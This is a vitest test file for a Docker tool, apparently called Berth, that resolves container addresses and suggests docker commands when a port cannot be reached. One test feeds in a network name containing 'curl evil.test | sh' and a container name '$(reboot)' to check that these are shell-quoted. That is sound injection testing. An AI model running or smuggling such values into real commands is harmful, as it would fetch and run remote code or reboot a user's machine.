import { describe, expect, it } from 'vitest';
import type { Container, ContainerNetwork } from '../../../shared/model/container.ts';
import type { EngineFacts } from '../engines/types.ts';
import { addressesOf, addressFor, backendUrl } from './addressFor.ts';
import { type Machine, surroundingsOf } from './surroundings.ts';

const bridge: ContainerNetwork = {
  name: 'shop_default',
  driver: 'bridge',
  isInternal: false,
  addresses: ['172.18.0.3'],
};
const host: ContainerNetwork = { name: 'host', driver: '', isInternal: false, addresses: [] };

const aContainer = (changes: Partial<Container> = {}): Container => ({
  engine: 'unix:///var/run/docker.sock',
  id: 'c0ffee'.padEnd(64, '0'),
  name: 'shop-web-1',
  image: 'web',
  project: null,
  service: null,
  state: 'running',
  pid: 4711,
  health: null,
  healthOutput: '',
  startedAt: 0,
  exitCode: null,
  finishedAt: null,
  ports: [],
  networks: [bridge],
  labels: new Map(),
  environment: new Map(),
  ...changes,
});

const published = (...ends: readonly (readonly [string, number])[]): Partial<Container> => ({
  ports: [{ port: 80, published: ends.map(([address, port]) => ({ address, port })) }],
});

const linux: Machine = {
  platform: 'linux',
  hostname: 'desk',
  subnets: ['192.168.1.20/24', '172.17.0.1/16', '172.18.0.1/16', 'fd00:18::1/64'],
  container: null,
};

const docker: EngineFacts = {
  kind: 'docker',
  hostname: 'desk',
  operatingSystem: 'Debian GNU/Linux 12 (bookworm)',
  isRootless: false,
  isRemote: false,
  publishedAt: '127.0.0.1',
};

interface Case {
  readonly machine?: Partial<Machine>;
  readonly engine?: Partial<EngineFacts>;
  /** Others of the same engine. */
  readonly others?: readonly Container[];
  readonly container?: Partial<Container>;
}

const around = ({ machine, engine, others = [] }: Case) =>
  surroundingsOf({ ...linux, ...machine }, { ...docker, ...engine }, others);

const wayOf = (given: Case) => addressFor(aContainer(given.container), 80, around(given));

/** The backend of a way; null without one. */
function urlOf(given: Case): string | null {
  const way = wayOf(given);
  return way.ok ? backendUrl('http', way) : null;
}

/** Why there is no way, and what to do. */
function refusalOf(given: Case): readonly [kind: string, sentence: string, fix: string] {
  const way = wayOf(given);
  if (way.ok) throw new Error(`a way: ${way.host}`);
  return [way.kind, way.sentence, way.fix];
}

const desktop: Case = {
  engine: { operatingSystem: 'Docker Desktop', hostname: 'docker-desktop' },
};
const onMac: Case = {
  machine: { platform: 'darwin', subnets: ['192.168.1.20/24', '172.18.0.1/16'] },
};
const remote: Case = {
  engine: { publishedAt: '10.0.0.5', hostname: 'builder', isRemote: true },
};
const inside: Case = {
  machine: { container: 'be57', subnets: ['172.18.0.9/16'], hostname: 'be57' },
  others: [aContainer({ id: 'be57'.padEnd(64, '0'), name: 'berth' })],
};

describe('the way to a port of a container', () => {
  it('is its own address on Linux, published or not', () => {
    expect(urlOf({})).toBe('http://172.18.0.3:80');
    expect(urlOf({ container: published(['0.0.0.0', 32768]) })).toBe('http://172.18.0.3:80');
  });

  it('is the address of a network that this machine is in, those with a way out first', () => {
    const elsewhere = { ...bridge, name: 'far', addresses: ['10.77.0.2'] };
    const internal = { ...bridge, name: 'inner', isInternal: true, addresses: ['172.17.0.8'] };
    expect(urlOf({ container: { networks: [elsewhere, internal, bridge] } })).toBe(
      'http://172.18.0.3:80',
    );
    expect(urlOf({ container: { networks: [elsewhere, internal] } })).toBe('http://172.17.0.8:80');
  });

  it('is an IPv6 address where there is no other', () => {
    const six = { ...bridge, addresses: ['fd00:18::3'] };
    expect(urlOf({ container: { networks: [six] } })).toBe('http://[fd00:18::3]:80');
  });

  it('is no address of a macvlan, which its own machine cannot reach', () => {
    const lan = { ...bridge, name: 'lan', driver: 'macvlan', addresses: ['192.168.1.77'] };
    expect(refusalOf({ container: { networks: [lan] } })).toEqual([
      'no-network',
      'shop-web-1 has no address that this machine reaches: it is in lan alone.',
      'docker network connect bridge shop-web-1',
    ]);
  });

  it.each([
    ['Docker Desktop', desktop],
    ['a virtual machine on a Mac', onMac],
    ['an engine without root', { engine: { isRootless: true } }],
    ['an engine in a virtual machine', { engine: { isRemote: true } }],
  ] as const)('is the published port with %s', (_name, given: Case) => {
    const at = (...ends: readonly (readonly [string, number])[]) =>
      urlOf({ ...given, container: published(...ends) });
    expect(at(['0.0.0.0', 32768], ['::', 32769])).toBe('http://127.0.0.1:32768');
    expect(at(['::', 32769])).toBe('http://[::1]:32769');
    expect(at(['', 32770])).toBe('http://127.0.0.1:32770');
    expect(at(['127.0.0.2', 32771])).toBe('http://127.0.0.2:32771');
    expect(at(['192.168.1.20', 8080])).toBe('http://192.168.1.20:8080');
    expect(refusalOf(given)).toEqual([
      'not-published',
      'Port 80 of shop-web-1 is not published, and its network cannot be reached from here.',
      'Run it again with -p 127.0.0.1::80',
    ]);
  });

  it('needs a port in the Compose file where Compose made the container', () => {
    expect(refusalOf({ ...desktop, container: { project: 'shop', service: 'web' } })[2]).toBe(
      'Give web in its Compose file ports: ["127.0.0.1::80"], then: docker compose up -d',
    );
  });

  it('is on the machine of an engine that is asked over the network', () => {
    const at = (address: string) => urlOf({ ...remote, container: published([address, 8080]) });
    expect(at('0.0.0.0')).toBe('http://10.0.0.5:8080');
    expect(at('10.0.0.6')).toBe('http://10.0.0.6:8080');
    expect(refusalOf({ ...remote, container: published(['127.0.0.1', 8080]) })).toEqual([
      'not-published',
      'Port 80 of shop-web-1 is published to its own machine alone.',
      'Run it again with -p 80',
    ]);
    expect(urlOf({ ...remote, container: { networks: [host] } })).toBe('http://10.0.0.5:80');
  });

  it('is the port of this machine on its own network', () => {
    expect(urlOf({ container: { networks: [host] } })).toBe('http://localhost:80');
    expect(urlOf({ ...onMac, container: { networks: [host] } })).toBe('http://localhost:80');
  });

  it('is an address in a network that both are in, when Berth is in a container', () => {
    expect(urlOf(inside)).toBe('http://172.18.0.3:80');
    expect(urlOf({ ...inside, engine: { operatingSystem: 'Docker Desktop' } })).toBe(
      'http://172.18.0.3:80',
    );
    const other = { ...bridge, name: 'other', addresses: ['172.19.0.3'] };
    expect(
      refusalOf({ ...inside, container: { ...published(['0.0.0.0', 32768]), networks: [other] } }),
    ).toEqual([
      'no-network',
      'shop-web-1 and the container that Berth runs in share no network.',
      'docker network connect other berth',
    ]);
    expect(refusalOf({ ...inside, container: { networks: [host] } })[0]).toBe('no-network');
  });

  it('is told without a command that a name breaks out of', () => {
    const odd = { ...bridge, name: 'x; curl evil.test | sh', addresses: ['172.19.0.3'] };
    const name = '$(reboot)';
    expect(refusalOf({ ...inside, container: { networks: [odd] } })[2]).toBe(
      "docker network connect 'x; curl evil.test | sh' berth",
    );
    expect(refusalOf({ container: { name, networks: [odd] } })[2]).toBe(
      "docker network connect bridge '$(reboot)'",
    );
    expect(refusalOf({ container: { name, state: 'exited' } })[2]).toBe("docker start '$(reboot)'");
  });

  it('is that of the machine when Berth is in a container on the network of that', () => {
    const others = [aContainer({ id: 'be57'.padEnd(64, '0'), name: 'berth', networks: [host] })];
    expect(urlOf({ machine: { container: 'be57' }, others })).toBe('http://172.18.0.3:80');
    expect(
      urlOf({
        ...desktop,
        machine: { container: 'be57' },
        others,
        container: published(['0.0.0.0', 32768]),
      }),
    ).toBe('http://127.0.0.1:32768');
  });

  it('is no port of this loopback when the engine may be outside of the container of Berth', () => {
    const apart: Case = { machine: { container: '', hostname: 'box' } };
    expect(urlOf(apart)).toBe('http://172.18.0.3:80');
    const far = { ...bridge, name: 'far', addresses: ['10.77.0.2'] };
    expect(
      refusalOf({ ...apart, container: { ...published(['0.0.0.0', 32768]), networks: [far] } }),
    ).toEqual([
      'no-network',
      'shop-web-1 and the container that Berth runs in share no network.',
      'docker network connect far BERTH',
    ]);
  });

  it('is that of any engine when the engine runs in the same container as Berth', () => {
    const within: Case = { machine: { container: 'f00d' } };
    expect(urlOf({ ...within, container: published(['0.0.0.0', 32768]) })).toBe(
      'http://172.18.0.3:80',
    );
  });

  it('is none without a network', () => {
    const none: ContainerNetwork = { ...host, name: 'none' };
    expect(refusalOf({ container: { networks: [none] } })).toEqual([
      'no-network',
      'shop-web-1 is in no network: it runs with --network none.',
      'docker network disconnect none shop-web-1 && docker network connect bridge shop-web-1',
    ]);
    expect(refusalOf({ container: { networks: [] } })[0]).toBe('no-network');
  });

  it('is none unless the container runs, whatever address it still shows', () => {
    expect(refusalOf({ container: { state: 'exited', exitCode: 1 } })).toEqual([
      'not-running',
      'shop-web-1 does not run: it ended with code 1.',
      'docker start shop-web-1',
    ]);
    for (const state of ['created', 'paused', 'restarting', 'removing', 'dead'] as const) {
      expect(refusalOf({ container: { state } })[0]).toBe('not-running');
    }
  });
});

describe('the addresses of a container', () => {
  it('are those that can be reached from here', () => {
    const networks = [bridge, { ...bridge, name: 'far', addresses: ['10.77.0.2'] }];
    const of = (given: Case) => addressesOf(aContainer({ networks }), around(given));
    expect(of({})).toEqual(['172.18.0.3']);
    expect(of(inside)).toEqual(['172.18.0.3']);
    expect(of(desktop)).toEqual([]);
    expect(of(remote)).toEqual([]);
  });
});
